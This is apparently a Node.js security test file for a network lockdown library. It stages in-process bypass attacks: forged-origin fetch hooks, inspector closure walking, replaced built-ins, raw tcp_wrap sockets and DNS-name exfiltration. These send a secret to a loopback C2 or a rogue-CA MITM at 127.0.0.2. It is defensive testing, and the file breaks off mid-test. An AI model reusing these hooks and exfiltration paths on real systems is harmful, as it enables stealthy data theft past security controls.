// The three runtime bypass classes of issue 10, attacked in this very process (no child process:
// lockdown() is process-wide, so each attack runs under lockdown, is undone, and runs again
// unprotected as its positive control). Real loopback servers: the legitimate origin (127.0.0.1),
// the attacker's C2 and MITM (127.0.0.2). The test runner itself runs under `--import tsx`, a
// preload allow-listed by name.
//   1. origin judged from a URL the attacker chooses (vm filename, //# sourceURL);
//   2. other names of the same function (_tls_wrap.connect, process.binding, dns methods, ...);
//   3. checks that read caller-owned objects which change after the check (getters, lookup).
import assert from 'node:assert/strict';
import dgram from 'node:dgram';
import dns from 'node:dns';
import http from 'node:http';
import http2 from 'node:http2';
import https from 'node:https';
import { createRequire } from 'node:module';
import net from 'node:net';
import tls from 'node:tls';
import vm from 'node:vm';
import { after, before, describe, test } from 'node:test';
import { Agent as UndiciAgent, request as undiciRequest } from 'undici';
import { lockdown, type Lockdown } from '../../src/runtime/lockdown.js';
import { startLab, type Lab } from './support.js';

const require = createRequire(import.meta.url);
const SECRET = 'TOP-SECRET-BODY-4711';
const settle = (ms = 250): Promise<void> => new Promise((resolve) => setTimeout(resolve, ms));

let lab: Lab;
before(async () => {
  lab = await startLab();
});
after(async () => {
  await lab.close();
});

/** What the attacker's code does with what it read: send it to the C2 on loopback. */
function leak(data: unknown): void {
  const socket = net.connect(lab.c2.port, '127.0.0.2');
  socket.on('error', () => undefined);
  socket.end(String(data));
}

/** Runs `attack` under lockdown (then release()), restoring every property it touched. */
async function underLockdown<T>(policy: Record<string, unknown>, allow: string[], attack: (handle: Lockdown) => Promise<T>): Promise<T> {
  const handle = lockdown(policy, { allow: { hookers: ['tsx', ...allow] } });
  try {
    assert.equal(handle.blockingFinding(), undefined, 'a clean process before the attack');
    return await attack(handle);
  } finally {
    handle.release();
  }
}

/** Saves a property descriptor and gives back a function that puts it back. */
function saved(target: object, key: PropertyKey): () => void {
  const descriptor = Reflect.getOwnPropertyDescriptor(target, key);
  return () => {
    if (descriptor) Object.defineProperty(target, key, descriptor);
    else delete (target as Record<PropertyKey, unknown>)[key];
  };
}

function outcome(promise: Promise<unknown>): Promise<string> {
  return promise.then(
    () => 'ok',
    (error: NodeJS.ErrnoException & { cause?: NodeJS.ErrnoException }) => error?.code ?? error?.cause?.code ?? String(error),
  );
}

// ---------------------------------------------------------------------------------------------
// Class 1: a hook whose code claims to be Node's (or an allow-listed tool's) is still a hook.

interface HookCase {
  name: string;
  /** The watched slot the hook replaces (finding subject). */
  slot: string;
  allow?: string[];
  install: () => () => void;
  /** Makes the hooked code run with the secret. */
  trigger: () => Promise<unknown>;
}

const forged = (source: string, filename: string): unknown => vm.runInThisContext(source, { filename });
const fetchSpy = (filename: string): unknown =>
  (forged('(leak, original) => function fetch(input, init) { leak(init && init.body); return original(input, init); }', filename) as (l: typeof leak, o: typeof fetch) => unknown)(leak, globalThis.fetch);
const triggerFetch = (): Promise<unknown> => fetch(lab.origin.url('127.0.0.1', '/api'), { method: 'POST', body: SECRET });
const triggerHttps = (): Promise<unknown> =>
  new Promise((resolve, reject) => {
    const request = https.request(lab.origin.url('127.0.0.1', '/api'), { method: 'POST', headers: { 'x-token': SECRET } }, resolve);
    request.on('error', reject);
    request.end();
  });

const otelFile = require.resolve('@opentelemetry/instrumentation-http');

const HOOKS: HookCase[] = [
  {
    name: "fetch defined with a vm filename 'node:internal/deps/undici/undici'",
    slot: 'globalThis.fetch',
    install: () => {
      const restore = saved(globalThis, 'fetch');
      Object.defineProperty(globalThis, 'fetch', { value: fetchSpy('node:internal/deps/undici/undici'), writable: true, configurable: true, enumerable: true });
      return restore;
    },
    trigger: triggerFetch,
  },
  {
    name: 'fetch defined from eval code with a //# sourceURL=node:... comment',
    slot: 'globalThis.fetch',
    install: () => {
      const restore = saved(globalThis, 'fetch');
      const make = new Function('leak', 'original', 'return function fetch(input, init) { leak(init && init.body); return original(input, init); }\n//# sourceURL=node:internal/bootstrap/web/exposed-window-or-worker');
      Object.defineProperty(globalThis, 'fetch', { value: make(leak, globalThis.fetch), writable: true, configurable: true, enumerable: true });
      return restore;
    },
    trigger: triggerFetch,
  },
  {
    name: 'fetch as a Proxy whose apply trap has a node: filename',
    slot: 'globalThis.fetch',
    install: () => {
      const restore = saved(globalThis, 'fetch');
      const apply = (forged('(leak) => function apply(target, self, args) { leak(args[1] && args[1].body); return Reflect.apply(target, self, args); }', 'node:internal/util') as (l: typeof leak) => ProxyHandler<typeof fetch>['apply'])(leak);
      Object.defineProperty(globalThis, 'fetch', { value: new Proxy(globalThis.fetch, { apply }), writable: true, configurable: true, enumerable: true });
      return restore;
    },
    trigger: triggerFetch,
  },
  {
    name: 'fetch as an accessor whose getter has a node: filename',
    slot: 'globalThis.fetch',
    install: () => {
      const restore = saved(globalThis, 'fetch');
      const spy = fetchSpy('node:internal/deps/undici/undici');
      const get = forged('(spy) => function get() { return spy; }', 'node:internal/bootstrap/node') as (s: unknown) => () => unknown;
      Object.defineProperty(globalThis, 'fetch', { get: get(spy), configurable: true, enumerable: true });
      return restore;
    },
    trigger: triggerFetch,
  },
  {
    name: "https.Agent.prototype.createConnection (watched, not installed) defined with filename 'node:https'",
    slot: 'https.Agent.prototype.createConnection',
    install: () => {
      const proto = https.Agent.prototype as unknown as Record<string, unknown>;
      const restore = saved(proto, 'createConnection');
      const original = proto.createConnection;
      const hook = (forged('(leak, original) => function createConnection(options, cb) { leak(options.headers ? JSON.stringify(options.headers) : JSON.stringify(options)); return original.call(this, options, cb); }', 'node:https') as (l: typeof leak, o: unknown) => unknown)(leak, original);
      Object.defineProperty(proto, 'createConnection', { value: hook, writable: true, configurable: true });
      return restore;
    },
    trigger: triggerHttps,
  },
  {
    name: "fetch hook compiled under the real file name of an allow-listed tool (OpenTelemetry), allow-list on",
    slot: 'globalThis.fetch',
    allow: ['opentelemetry'],
    install: () => {
      const restore = saved(globalThis, 'fetch');
      Object.defineProperty(globalThis, 'fetch', { value: fetchSpy(otelFile), writable: true, configurable: true, enumerable: true });
      return restore;
    },
    trigger: triggerFetch,
  },
];

/** https.get swapped for http.get (another of Node's own functions) under lockdown is a high hooked-api finding. */
function assertNodeSwapReported(handle: Lockdown): void {
  const restoreGet = saved(https, 'get');
  try {
    Object.defineProperty(https, 'get', { value: http.get, writable: true, configurable: true, enumerable: true });
    assert.equal(handle.recheck().find((f) => f.key === 'hooked-api:https.get')?.severity, 'high');
  } finally {
    restoreGet();
  }
}

describe('class 1: origin is judged by facts the hook cannot choose', { concurrency: false }, () => {
  const policy = (): Record<string, unknown> => ({ ...lab.policy, unlistedHosts: 'allow' });
  for (const hook of HOOKS) {
    test(`${hook.name}: reported, blocked, the C2 receives 0 bytes`, async () => {
      lab.reset();
      await underLockdown(policy(), hook.allow ?? [], async (handle) => {
        const restore = hook.install();
        try {
          assert.ok(handle.check(), 'the gate blocks');
          const finding = handle.findings().find((f) => f.key === `hooked-api:${hook.slot}`);
          assert.equal(finding?.severity, 'high', JSON.stringify(handle.findings().map((f) => [f.key, f.severity, f.allowedBy])));
          assert.equal(finding.allowedBy, undefined);
          assert.equal(await outcome(hook.trigger()), 'ERR_ENV_COMPROMISED');
          await settle();
        } finally {
          restore();
        }
      });
      assert.equal(lab.c2.connections, 0, `the C2 got ${lab.c2.captured}`);
      assert.equal(lab.c2.applicationBytes, 0);
      assert.equal(lab.origin.applicationBytes, 0, 'a compromised process sends nothing');
    });

    test(`${hook.name}: positive control, the hook leaks without lockdown`, async () => {
      lab.reset();
      const restore = hook.install();
      try {
        await outcome(hook.trigger());
        await settle();
      } finally {
        restore();
      }
      assert.ok(lab.c2.captured.includes(SECRET), `the C2 got ${lab.c2.applicationBytes} bytes`);
    });
  }

  test("the origin proof's inspector messages cannot be read or rewritten: a hook installed before lockdown() that rewrites them to pass as an allow-listed tool is still reported; positive control: node:inspector's Session goes through the rewriter", async () => {
    const { Connection } = (process as unknown as { binding(name: string): { Connection: { prototype: { dispatch(message: string): void } } } }).binding('inspector');
    const dispatch = Connection.prototype.dispatch;
    const seen: string[] = [];
    // A function of an allow-listed tool (tsx, allowed by underLockdown's callers), which the
    // rewriter hands the inspector in place of the hook.
    const tsxApi = (await import('tsx/esm/api')) as Record<string, unknown>;
    const disguise = Object.values(tsxApi).find((value) => typeof value === 'function');
    assert.ok(disguise);
    const hook = function request(this: unknown, ...args: unknown[]): unknown {
      return (https.request as (...a: unknown[]) => unknown).apply(this, args);
    };
    const slots = globalThis as unknown as Record<string, unknown>;
    slots.__bypassHook = hook;
    slots.__bypassDisguise = disguise;
    Connection.prototype.dispatch = function (this: unknown, message: string): void {
      const parsed = JSON.parse(message) as { method: string; params?: { expression?: string } };
      seen.push(parsed.method);
      if (parsed.method === 'Runtime.evaluate' && parsed.params?.expression?.startsWith('globalThis.__wirelock_origin_')) {
        parsed.params.expression = `(v => v === globalThis.__bypassHook ? globalThis.__bypassDisguise : Array.isArray(v) ? v.map((f) => f === globalThis.__bypassHook ? globalThis.__bypassDisguise : f) : v)(${parsed.params.expression})`;
        message = JSON.stringify(parsed);
      }
      return dispatch.call(this, message);
    };
    const restoreGet = saved(https, 'get');
    try {
      // Positive control: Node's own Session (what wirelock used before) sends through the rewriter.
      const { Session } = await import('node:inspector');
      const session = new Session();
      session.connect();
      session.post('Runtime.evaluate', { expression: '1 + 1' }, () => undefined);
      session.disconnect();
      assert.deepEqual(seen, ['Runtime.evaluate']);
      seen.length = 0;
      Object.defineProperty(https, 'get', { value: hook, writable: true, configurable: true, enumerable: true });
      const handle = lockdown({ ...lab.policy, unlistedHosts: 'allow' }, { allow: { hookers: ['tsx'] } });
      try {
        const finding = handle.findings().find((f) => f.key === 'hooked-api:https.get');
        assert.equal(finding?.severity, 'high', JSON.stringify(handle.findings().map((f) => [f.key, f.severity, f.allowedBy])));
        assert.equal(finding.allowedBy, undefined);
        assert.equal(handle.blockingFinding()?.key, 'hooked-api:https.get');
      } finally {
        handle.release();
      }
      assert.deepEqual(seen, [], 'wirelock sent no message through the rewriter');
    } finally {
      Connection.prototype.dispatch = dispatch;
      restoreGet();
      delete slots.__bypassHook;
      delete slots.__bypassDisguise;
    }
  });

  test("an in-process inspector session under lockdown: reading a guard's closure (where the original connect and the approved addresses live) is refused and reported critical; the profiler passes; positive control: without lockdown the same walk reaches the closure", async () => {
    const { Session } = await import('node:inspector');
    // What an attacker walks: a function's [[Scopes]], to the variables its closure holds.
    const closureNames = (session: InstanceType<typeof Session>, fn: unknown): string[] => {
      const post = (method: string, params?: object): Record<string, unknown> => {
        let out: Record<string, unknown> | undefined;
        let failure: unknown;
        session.post(method, params, (error, result) => {
          failure = error;
          out = result as Record<string, unknown>;
        });
        if (failure) throw failure;
        return out!;
      };
      (globalThis as Record<string, unknown>).__walkTarget = fn;
      try {
        const target = (post('Runtime.evaluate', { expression: 'globalThis.__walkTarget' }).result as { objectId: string }).objectId;
        const internals = post('Runtime.getProperties', { objectId: target, ownProperties: true }).internalProperties as Array<{ name: string; value: { objectId: string } }>;
        const scopes = internals.find((entry) => entry.name === '[[Scopes]]')!.value.objectId;
        const names: string[] = [];
        for (const scope of post('Runtime.getProperties', { objectId: scopes, ownProperties: true }).result as Array<{ value?: { objectId?: string } }>) {
          if (!scope.value?.objectId) continue;
          for (const variable of post('Runtime.getProperties', { objectId: scope.value.objectId, ownProperties: true }).result as Array<{ name: string }>) names.push(variable.name);
        }
        return names;
      } finally {
        delete (globalThis as Record<string, unknown>).__walkTarget;
      }
    };
    // Positive control: a closure like a guard's, walked without lockdown.
    const approvedHere = new Set<string>();
    const guardLike = function connect(): boolean {
      return approvedHere.has('x');
    };
    const control = new Session();
    control.connect();
    try {
      assert.ok(closureNames(control, guardLike).includes('approvedHere'), 'the walk reaches closure variables');
    } finally {
      control.disconnect();
    }
    const handle = lockdown({ ...lab.policy, unlistedHosts: 'allow' }, { allow: { hookers: ['tsx'] } });
    try {
      assert.equal(handle.blockingFinding(), undefined, 'a clean process before the attack');
      const session = new Session();
      session.connect();
      try {
        // The profiler hands out no object: coverage and CPU profiles keep working under lockdown.
        let profilerError: unknown = 'not called';
        session.post('Profiler.enable', (error) => {
          profilerError = error;
        });
        assert.equal(profilerError, null);
        assert.throws(() => closureNames(session, tls.connect), (error: { code?: string }) => error.code === 'ERR_ENV_COMPROMISED');
      } finally {
        session.disconnect();
      }
      const finding = handle.findings().find((f) => f.key === 'inspector:session');
      assert.equal(finding?.severity, 'critical');
      assert.equal(finding.evidence.method, 'Runtime.evaluate');
      assert.equal(handle.blockingFinding()?.key, 'inspector:session', 'the process is treated as compromised');
      // wirelock's own origin proof still runs (it speaks through the dispatch it took at load).
      assertNodeSwapReported(handle);
    } finally {
      handle.release();
    }
    // Released: sessions work again.
    const after = new Session();
    after.connect();
    try {
      assert.ok(closureNames(after, guardLike).includes('approvedHere'));
    } finally {
      after.disconnect();
    }
  });

  test('the inspector-session guard and the findings it records hold against replaced built-ins: RegExp.prototype.exec and String (the check), a non-string message, an Error.prepareStackTrace that throws (the caller evidence)', async () => {
    const { Session } = await import('node:inspector');
    const handle = lockdown({ ...lab.policy, unlistedHosts: 'allow' }, { allow: { hookers: ['tsx'] } });
    const exec = RegExp.prototype.exec;
    const StringBefore = globalThis.String;
    const prepare = Error.prepareStackTrace;
    const session = new Session();
    session.connect();
    try {
      assert.equal(handle.blockingFinding(), undefined, 'a clean process before the attack');
      // Every test() and exec() says "profiler"; String() turns anything into a profiler message.
      RegExp.prototype.exec = function () {
        return Object.assign(['Profiler.enable'], { index: 0, input: '', groups: undefined }) as unknown as RegExpExecArray;
      };
      (globalThis as Record<string, unknown>).String = function (value: unknown) {
        return typeof value === 'object' ? '{"id":1,"method":"Profiler.enable"}' : StringBefore(value);
      };
      Error.prepareStackTrace = () => {
        throw new Error('no stack for you');
      };
      const sent = (message: unknown): string => {
        try {
          const { Connection } = (process as unknown as { binding(name: string): { Connection: { prototype: { dispatch(message: unknown): void } } } }).binding('inspector');
          const connection = new (Connection as unknown as new (onMessage: (message: string) => void) => { dispatch(message: unknown): void; disconnect(): void })(() => undefined);
          try {
            connection.dispatch(message);
          } finally {
            connection.disconnect();
          }
          return 'sent';
        } catch (error) {
          return (error as { code?: string }).code ?? String((error as Error).message);
        }
      };
      assert.equal(sent('{"id":1,"method":"Runtime.evaluate","params":{"expression":"1"}}'), 'ERR_ENV_COMPROMISED');
      // An object whose conversion is a profiler message for the check and something else for Node.
      let conversions = 0;
      const shifty = { toString: () => (conversions++ === 0 ? '{"id":2,"method":"Profiler.enable"}' : '{"id":2,"method":"Runtime.evaluate","params":{"expression":"1"}}') };
      assert.equal(sent(shifty), 'ERR_ENV_COMPROMISED');
      assert.equal(conversions, 0, 'a message that is not a string is refused before anything converts it');
      // Node's own Session still goes through the same refusal.
      assert.throws(() => session.post('Runtime.evaluate', { expression: '1' }), (error: { code?: string }) => error.code === 'ERR_ENV_COMPROMISED');
    } finally {
      RegExp.prototype.exec = exec;
      (globalThis as Record<string, unknown>).String = StringBefore;
      Error.prepareStackTrace = prepare;
      session.disconnect();
    }
    try {
      const finding = handle.findings().find((f) => f.key === 'inspector:session');
      assert.equal(finding?.severity, 'critical');
      assert.equal(handle.blockingFinding()?.key, 'inspector:session');
    } finally {
      handle.release();
    }
    // Positive control: the same replaced RegExp.prototype.exec makes a regular-expression method
    // check say "profiler" (what the guard must not rely on).
    RegExp.prototype.exec = function () {
      return Object.assign(['Profiler.enable'], { index: 0, input: '', groups: undefined }) as unknown as RegExpExecArray;
    };
    try {
      assert.equal(/^(?:Profiler|NodeTracing)\./.test('Runtime.evaluate'), true);
    } finally {
      RegExp.prototype.exec = exec;
    }
  });

  test("a hook installed before lockdown() with the built-ins the checks compute with replaced (WeakMap.prototype.get answering \"Node's own\", Map.prototype.get answering \"unchanged since load\"): reported and blocking; positive control: the same replacements make those lookups lie", async () => {
    const original = https.get;
    const hook = function get(this: unknown, ...args: unknown[]): unknown {
      return (original as (...a: unknown[]) => unknown).apply(this, args);
    };
    const weakGet = WeakMap.prototype.get;
    const mapGet = Map.prototype.get;
    const install = (): void => {
      WeakMap.prototype.get = function (this: WeakMap<object, unknown>, key: object) {
        return key === (hook as unknown) ? { kind: 'builtin', url: 'node:https', line: 1, column: 1 } : Reflect.apply(weakGet, this, [key]);
      };
      Map.prototype.get = function (this: Map<unknown, unknown>, key: unknown) {
        return key === 'https.get' ? hook : Reflect.apply(mapGet, this, [key]);
      };
    };
    const restoreGet = saved(https, 'get');
    try {
      // Positive control: with the replacements, a WeakMap says "Node's own" and a Map says "the hook".
      install();
      const verdicts = new WeakMap<object, unknown>();
      const values = new Map<string, unknown>([['https.get', original]]);
      const lies = (verdicts.get(hook) as { kind?: string } | undefined)?.kind === 'builtin' && values.get('https.get') === hook;
      WeakMap.prototype.get = weakGet;
      Map.prototype.get = mapGet;
      assert.ok(lies, 'the replaced lookups lie');
      Object.defineProperty(https, 'get', { value: hook, writable: true, configurable: true, enumerable: true });
      install();
      let handle: Lockdown | undefined;
      try {
        handle = lockdown({ ...lab.policy, unlistedHosts: 'allow' }, { allow: { hookers: ['tsx'] } });
      } finally {
        WeakMap.prototype.get = weakGet;
        Map.prototype.get = mapGet;
      }
      try {
        const keys = handle.findings().map((f) => [f.key, f.severity]);
        assert.deepEqual(keys.find(([key]) => key === 'hooked-api:WeakMap.prototype.get'), ['hooked-api:WeakMap.prototype.get', 'high'], JSON.stringify(keys));
        assert.deepEqual(keys.find(([key]) => key === 'hooked-api:Map.prototype.get'), ['hooked-api:Map.prototype.get', 'high']);
        assert.ok(handle.blockingFinding(), 'the process is blocked');
      } finally {
        handle.release();
      }
    } finally {
      WeakMap.prototype.get = weakGet;
      Map.prototype.get = mapGet;
      restoreGet();
    }
  });

  test('a replaced array iterator (what for...of and destructuring in the checks run) is reported at lockdown(); positive control: a replaced one decides what destructuring sees', async () => {
    const iterator = Array.prototype[Symbol.iterator];
    // Positive control: destructuring goes through it.
    Array.prototype[Symbol.iterator] = function* () {
      yield 'attacker';
    } as unknown as typeof iterator;
    let first: unknown;
    try {
      [first] = ['genuine'];
    } finally {
      Array.prototype[Symbol.iterator] = iterator;
    }
    assert.equal(first, 'attacker');
    // A replacement that behaves as the original, so lockdown itself runs normally: still a finding.
    const passThrough = function values(this: unknown[]) {
      return Reflect.apply(iterator, this, []);
    } as unknown as typeof iterator;
    let handle: Lockdown | undefined;
    Array.prototype[Symbol.iterator] = passThrough;
    try {
      handle = lockdown({ ...lab.policy, unlistedHosts: 'allow' }, { allow: { hookers: ['tsx'] } });
    } finally {
      Array.prototype[Symbol.iterator] = iterator;
    }
    try {
      const finding = handle.findings().find((f) => f.key === 'hooked-api:Array.prototype[Symbol.iterator]');
      assert.equal(finding?.severity, 'high', JSON.stringify(handle.findings().map((f) => f.key)));
    } finally {
      handle.release();
    }
  });

  test('a genuine slot value is still Node\'s own: a clean lockdown reports no hook; the finding names the forgery; a swap for another Node function is a finding', async () => {
    await underLockdown(policy(), [], async (handle) => {
      assert.deepEqual(handle.recheck().filter((f) => f.key.startsWith('hooked-api')), []);
      const restore = HOOKS[0]!.install();
      try {
        const finding = handle.recheck().find((f) => f.key === 'hooked-api:globalThis.fetch');
        assert.match(String(finding?.evidence.defined), /claims to be Node's own, but compiled after wirelock loaded/);
      } finally {
        restore();
      }
      // Even another of Node's own functions is a finding in a slot that changed after lockdown.
      assertNodeSwapReported(handle);
    });
  });
});

// ---------------------------------------------------------------------------------------------
// Class 2: every other name by which this process opens a connection or resolves a name.

describe('class 2: other names of the same function', { concurrency: false }, () => {
  // The MITM's address is listed (as a DNS or routing attacker's would be): only TLS trust stops it.
  const policy = (): Record<string, unknown> => ({ ...lab.policy, domains: { '127.0.0.1': {}, '127.0.0.2': {} } });

  /** TLS to the MITM, trusting its rogue CA through the call's own `ca`: the secret is written on success. */
  function tlsTo(connect: (options: tls.ConnectionOptions) => tls.TLSSocket): Promise<string> {
    return new Promise((resolve) => {
      let socket: tls.TLSSocket;
      try {
        socket = connect({ host: '127.0.0.2', port: lab.mitm.port, ca: lab.rogue.root.pem });
      } catch (error) {
        resolve((error as NodeJS.ErrnoException).code ?? String(error));
        return;
      }
      socket.resume();
      socket.on('secureConnect', () => socket.end(`POST /api HTTP/1.1\r\nHost: localhost\r\nContent-Length: ${SECRET.length}\r\n\r\n${SECRET}`));
      socket.on('error', (error: NodeJS.ErrnoException) => resolve(error.code ?? error.message));
      socket.on('close', () => resolve('sent'));
    });
  }

  const TLS_NAMES: Array<[string, (options: tls.ConnectionOptions) => tls.TLSSocket]> = [
    ["require('_tls_wrap').connect", (options) => (require('_tls_wrap') as typeof tls).connect(options)],
    ["process.getBuiltinModule('_tls_wrap').connect", (options) => (process.getBuiltinModule('_tls_wrap') as typeof tls).connect(options)],
    ['https.Agent.prototype.createConnection called directly', (options) => new https.Agent().createConnection(options) as unknown as tls.TLSSocket],
    ['tls.connect over a socket the caller opened', (options) => tls.connect({ ...options, socket: net.connect(Number(options.port), String(options.host)) })],
  ];

  for (const [name, connect] of TLS_NAMES) {
    test(`${name}: the policy applies (the call's own CA is dropped), the MITM receives 0 bytes; positive control without lockdown`, async () => {
      lab.reset();
      const refused = await underLockdown(policy(), [], () => tlsTo(connect));
      assert.equal(refused, 'ERR_CERT_UNTRUSTED');
      await settle(50);
      assert.equal(lab.mitm.applicationBytes, 0);
      lab.reset();
      assert.equal(await tlsTo(connect), 'sent');
      await settle(50);
      assert.ok(lab.mitm.captured.includes(SECRET), `the MITM got ${lab.mitm.applicationBytes} bytes`);
    });
  }

  test('http2.connect (to an h2 MITM) and a second undici (npm, with its own connect.ca): the policy applies; positive controls without lockdown', async () => {
    const received: string[] = [];
    const h2Server = http2.createSecureServer({ cert: lab.rogue.leaf.pem + lab.rogue.intermediate.pem, key: lab.rogue.leaf.keyPem }, (request, response) => {
      request.on('data', (chunk: Buffer) => received.push(chunk.toString('latin1')));
      request.on('end', () => response.end('ok'));
    });
    await new Promise<void>((resolve) => h2Server.listen(0, '127.0.0.2', resolve));
    const h2 = (): Promise<string> =>
      new Promise((resolve) => {
        const session = http2.connect(`https://127.0.0.2:${(h2Server.address() as net.AddressInfo).port}`, { ca: lab.rogue.root.pem });
        session.on('error', (error: NodeJS.ErrnoException) => resolve(error.code ?? error.message));
        const stream = session.request({ ':method': 'POST', ':path': '/api' });
        stream.on('error', () => undefined);
        stream.on('response', () => stream.resume());
        stream.on('end', () => {
          session.close();
          resolve('sent');
        });
        stream.end(SECRET);
      });
    const viaUndici = async (): Promise<string> => {
      const agent = new UndiciAgent({ connect: { ca: lab.rogue.root.pem } });
      try {
        return await outcome(undiciRequest(`https://127.0.0.2:${lab.mitm.port}/api`, { method: 'POST', body: SECRET, dispatcher: agent }).then((r) => r.body.text()));
      } finally {
        await agent.close();
      }
    };
    try {
      lab.reset();
      const [h2Refused, undiciRefused] = await underLockdown(policy(), [], async () => [await h2(), await viaUndici()]);
      assert.equal(h2Refused, 'ERR_CERT_UNTRUSTED');
      assert.equal(undiciRefused, 'ERR_CERT_UNTRUSTED');
      assert.deepEqual(received, []);
      assert.equal(lab.mitm.applicationBytes, 0);
      assert.equal(await h2(), 'sent');
      assert.equal(await viaUndici(), 'ok');
      assert.ok(received.join('').includes(SECRET));
      assert.ok(lab.mitm.captured.includes(SECRET));
    } finally {
      h2Server.close();
    }
  });

  test("process.binding('tcp_wrap') raw socket to the C2: refused under lockdown (raw-binding); positive control sends the secret", async () => {
    const raw = (): string => {
      const { TCP, TCPConnectWrap, constants } = (process as unknown as { binding: (name: string) => any }).binding('tcp_wrap');
      const { WriteWrap } = (process as unknown as { binding: (name: string) => any }).binding('stream_wrap');
      const handle = new TCP(constants.SOCKET);
      const request = new TCPConnectWrap();
      request.oncomplete = (status: number) => {
        if (status !== 0) return handle.close();
        const write = new WriteWrap();
        write.handle = handle;
        write.oncomplete = () => handle.close();
        write.async = false;
        handle.writeUtf8String(write, SECRET);
      };
      handle.connect(request, '127.0.0.2', lab.c2.port);
      return 'connecting';
    };
    lab.reset();
    const refused = await underLockdown(policy(), [], async (handle) => {
      let code: string;
      try {
        code = raw();
      } catch (error) {
        code = (error as NodeJS.ErrnoException).code ?? String(error);
      }
      assert.equal(handle.findings().find((f) => f.key === 'raw-binding:tcp_wrap')?.severity, 'high');
      return code;
    });
    assert.equal(refused, 'ERR_ENV_COMPROMISED');
    await settle(100);
    assert.equal(lab.c2.connections, 0);
    raw();
    await settle(150);
    assert.ok(lab.c2.captured.includes(SECRET), `the C2 got ${lab.c2.applicationBytes} bytes`);
  });

  test('Function.prototype.call/apply replaced to catch the original connect a guard forwards to: nothing to catch, the C2 gets 0 bytes; positive control', async () => {
    const attack = async (): Promise<string> => {
      const { call, apply } = Function.prototype;
      let stolen: ((this: net.Socket, ...args: unknown[]) => net.Socket) | undefined;
      // Node's own Socket#connect is recognisable by its source.
      const steal = (fn: unknown, self: unknown): void => {
        if (self instanceof net.Socket && fn !== net.Socket.prototype.connect && String(fn).includes('normalizedArgsSymbol')) stolen ??= fn as typeof stolen;
      };
      Function.prototype.call = function (this: (...args: unknown[]) => unknown, self: unknown, ...args: unknown[]) {
        steal(this, self);
        return Reflect.apply(this, self, args);
      } as typeof call;
      Function.prototype.apply = function (this: (...args: unknown[]) => unknown, self: unknown, args?: unknown[]) {
        steal(this, self);
        return Reflect.apply(this, self, args ?? []);
      } as typeof apply;
      try {
        const probe = net.connect(lab.origin.port, '127.0.0.1');
        probe.on('error', () => undefined);
        probe.destroy();
      } finally {
        Function.prototype.call = call;
        Function.prototype.apply = apply;
      }
      const socket = new net.Socket();
      return new Promise((resolve) => {
        socket.resume();
        socket.on('connect', () => socket.end(SECRET));
        socket.on('error', (error: NodeJS.ErrnoException) => resolve(error.code ?? error.message));
        socket.on('close', () => resolve(stolen ? 'sent with the stolen original' : 'sent'));
        Reflect.apply(stolen ?? net.Socket.prototype.connect, socket, [{ host: '127.0.0.2', port: lab.c2.port }]);
      });
    };
    lab.reset();
    const refused = await underLockdown(policy(), [], attack);
    assert.equal(refused, 'ERR_ENV_COMPROMISED');
    await settle(100);
    assert.equal(lab.c2.connections, 0);
    assert.equal(await attack(), 'sent');
    await settle(100);
    assert.ok(lab.c2.captured.includes(SECRET));
  });

  test("a raw TCP handle built from a socket's own _handle (class and request wraps taken from a legitimate connection): refused, the C2 gets 0 bytes; positive control", async () => {
    type Handle = { connect(req: unknown, address: string, port: number): number; writeUtf8String(req: unknown, text: string): number; close(): void };
    const attack = async (): Promise<number> => {
      const legit = net.connect(lab.origin.port, '127.0.0.1');
      legit.on('error', () => undefined);
      const TCP = (legit as unknown as { _handle: { constructor: new (type: number) => Handle } })._handle.constructor;
      const proto = TCP.prototype as unknown as Record<string, (...args: unknown[]) => number>;
      let ConnectWrap: (new () => { oncomplete?: (status: number) => void }) | undefined;
      let WriteWrap: (new () => Record<string, unknown>) | undefined;
      const { connect, writeUtf8String } = proto;
      proto.connect = function (this: unknown, req: unknown, ...rest: unknown[]) {
        ConnectWrap ??= (req as { constructor: typeof ConnectWrap }).constructor;
        return Reflect.apply(connect!, this, [req, ...rest]);
      };
      proto.writeUtf8String = function (this: unknown, req: unknown, ...rest: unknown[]) {
        // Node 24 may try a synchronous write first, without a request object.
        if (req) WriteWrap ??= (req as { constructor: typeof WriteWrap }).constructor;
        return Reflect.apply(writeUtf8String!, this, [req, ...rest]);
      };
      try {
        await new Promise((resolve) => legit.once('connect', resolve));
        await new Promise((resolve) => legit.write('x', resolve));
      } finally {
        proto.connect = connect!;
        proto.writeUtf8String = writeUtf8String!;
        legit.destroy();
      }
      const handle = new TCP(0);
      const request = new ConnectWrap!();
      request.oncomplete = (status) => {
        if (status !== 0) return handle.close();
        WriteWrap ??= (process as unknown as { binding: (name: string) => { WriteWrap: typeof WriteWrap } }).binding('stream_wrap').WriteWrap;
        const write = new WriteWrap!();
        Object.assign(write, { handle, async: false, oncomplete: () => handle.close() });
        handle.writeUtf8String(write, SECRET);
      };
      return handle.connect(request, '127.0.0.2', lab.c2.port);
    };
    lab.reset();
    const refused = await underLockdown(policy(), [], async (handle) => {
      const status = await attack();
      assert.equal(handle.findings().find((f) => f.key === 'raw-binding:handle.connect')?.severity, 'high');
      return status;
    });
    assert.ok(refused < 0, `the raw connect returned ${refused}`);
    await settle(150);
    assert.equal(lab.c2.connections, 0);
    assert.equal(await attack(), 0);
    await settle(150);
    assert.ok(lab.c2.captured.includes(SECRET), `the C2 got ${lab.c2.applicationBytes} bytes`);
  });

  test("a raw resolver query through a dns.Resolver's own _handle (request wrap taken from a legitimate query): refused, 0 datagrams; positive control", async () => {
    const server = dgram.createSocket('udp4');
    const queries: Buffer[] = [];
    server.on('message', (message) => queries.push(message));
    await new Promise<void>((resolve) => server.bind(0, '127.0.0.2', resolve));
    const name = `${Buffer.from(SECRET).toString('hex')}.exfil.test`;
    const attack = async (): Promise<string> => {
      const resolver = new dns.Resolver({ timeout: 200, tries: 1 });
      resolver.setServers([`127.0.0.2:${server.address().port}`]);
      const channel = (resolver as unknown as { _handle: Record<string, (...args: unknown[]) => number> })._handle;
      const proto = Object.getPrototypeOf(channel) as Record<string, (...args: unknown[]) => number>;
      const queryA = proto.queryA!;
      let QueryWrap: (new () => Record<string, unknown>) | undefined;
      proto.queryA = function (this: unknown, req: unknown, ...rest: unknown[]) {
        QueryWrap ??= (req as { constructor: typeof QueryWrap }).constructor;
        return Reflect.apply(queryA, this, [req, ...rest]);
      };
      try {
        await new Promise((resolve) => resolver.resolve4('127.0.0.1', resolve));
      } catch (error) {
        // Under lockdown a resolver pointed at an unlisted server is refused at its first query already.
        return (error as NodeJS.ErrnoException).code ?? String(error);
      } finally {
        proto.queryA = queryA;
      }
      const request = new QueryWrap!();
      request.oncomplete = () => undefined;
      try {
